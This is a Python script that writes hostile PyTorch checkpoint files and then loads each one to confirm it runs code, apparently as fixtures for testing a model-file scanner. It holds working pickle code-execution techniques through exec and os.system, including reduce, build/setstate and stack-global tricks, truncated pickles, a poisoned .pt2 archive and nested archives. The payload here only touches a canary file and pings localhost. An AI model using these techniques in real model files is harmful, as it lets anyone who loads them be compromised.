"""Write hostile files of PyTorch into a folder, and load each one plainly, to show that it bites. Run by the Python of its environment.

`hostile_torch FOLDER CANARY PORT`; prints a JSON object: which file wrote the canary when it was loaded. Most knock at the port as well.
"""

from __future__ import annotations

import contextlib
import io
import json
import logging
import pickle
import sys
import tarfile
import warnings
import zipfile
from pathlib import Path
from typing import Any

import torch

warnings.simplefilter("ignore")
logging.disable()
FOLDER, CANARY, PORT = Path(sys.argv[1]), Path(sys.argv[2]), int(sys.argv[3])
DEED = f"""
import contextlib, socket
with contextlib.suppress(OSError):
    open({str(CANARY)!r}, "w").close()
with contextlib.suppress(OSError):
    socket.create_connection(("127.0.0.1", {PORT}), timeout=5).close()
"""


class Called:
    """Pickles as a call of `what`."""

    def __init__(self, what: Any, *arguments: Any) -> None:
        self.call = (what, arguments)

    def __reduce__(self) -> Any:
        return self.call


def network(**more: Any) -> torch.nn.Module:
    net = torch.nn.Sequential(torch.nn.Linear(4, 2)).eval()
    vars(net).update(more)
    return net


def old(raw: bytes) -> bytes:
    """The beginning of a checkpoint of before 1.6, and then this pickle."""
    parts = (
        0x1950A86A20F9469CFC6C,
        1001,
        {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}},
    )
    return b"".join(pickle.dumps(part, 2) for part in parts) + raw


def with_entry(path: Path, like: Path, entry: str, content: bytes) -> None:
    """A copy of a zip in which one file has another content."""
    with zipfile.ZipFile(like) as source, zipfile.ZipFile(path, "w") as target:
        for info in source.infolist():
            target.writestr(info.filename, content if info.filename.endswith(entry) else source.read(info))


def saved(value: Any) -> bytes:
    file = io.BytesIO()
    torch.save(value, file)
    return file.getvalue()


def by_build(code: str) -> bytes:
    """No REDUCE: an object is given a `__setstate__` by its first state, which the second then calls."""
    made = b"ctorch.nn.modules.linear\nIdentity\n"
    first = b"}X\x0c\x00\x00\x00__setstate__cbuiltins\nexec\ns"
    raw = code.encode()
    return b"\x80\x02" + made + b")\x81" + first + b"bX" + len(raw).to_bytes(4, "little") + raw + b"b."


def by_stack_global(code: str) -> bytes:
    """The name of what is called is put together on the stack; no GLOBAL tells it."""
    raw = code.encode()
    return b"\x80\x04\x8c\x08builtins\x8c\x04exec\x93X" + len(raw).to_bytes(4, "little") + raw + b"\x85R."


def write() -> None:
    evil = Called(exec, DEED)
    (FOLDER / "reduce.pth").write_bytes(saved({"weight": torch.zeros(2), "extra": evil}))
    (FOLDER / "module.pt").write_bytes(saved(network(extra=evil)))
    (FOLDER / "dotted.pt").write_bytes(saved(network(extra=Called(torch.serialization.os.system, f"touch {CANARY}"))))
    (FOLDER / "gadget.pt").write_bytes(saved(network(extra=Called(logging.FileHandler, str(CANARY)))))
    (FOLDER / "nested.pt").write_bytes(saved(network(extra=Called(torch.storage._load_from_bytes, saved(evil)))))
    (FOLDER / "old.pt").write_bytes(old(pickle.dumps(evil, 2)))
    (FOLDER / "build.pt").write_bytes(old(by_build(DEED)))
    (FOLDER / "stack-global.pt").write_bytes(old(by_stack_global(DEED)))
    # What comes first is done before the end is missed.
    (FOLDER / "truncated.pt").write_bytes(old(by_stack_global(DEED)[:-1] + b"("))
    torch.export.save(torch.export.export(network(), (torch.zeros(1, 4),)), FOLDER / "good.pt2")
    with_entry(FOLDER / "samples.pt2", FOLDER / "good.pt2", "sample_inputs/model.pt", saved((evil, {})))
    (FOLDER / "good.pt2").unlink()


def load(path: Path) -> None:
    # Torn, or no model: what it did by then is what counts.
    with contextlib.suppress(Exception):
        if path.suffix == ".pt2":
            torch.export.load(path)
        else:
            torch.load(path, weights_only=False)


def bites() -> dict[str, bool]:
    found = {}
    for path in sorted(FOLDER.iterdir()):
        load(path)
        found[path.name] = CANARY.exists()
        CANARY.unlink(missing_ok=True)
    return found


if __name__ == "__main__":
    write()
    told = bites()
    # Archives within archives: whoever unpacks them finds what stands above.
    with zipfile.ZipFile(FOLDER / "zip-in-zip.pt", "w") as outer:
        outer.write(FOLDER / "reduce.pth", "archive/data.pkl")
    with tarfile.open(FOLDER / "tar.pt", "w") as tar:
        tar.add(FOLDER / "old.pt", "pickle")
    (FOLDER / "seven-zip.pt").write_bytes(b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + (FOLDER / "old.pt").read_bytes())
    print(json.dumps(told))
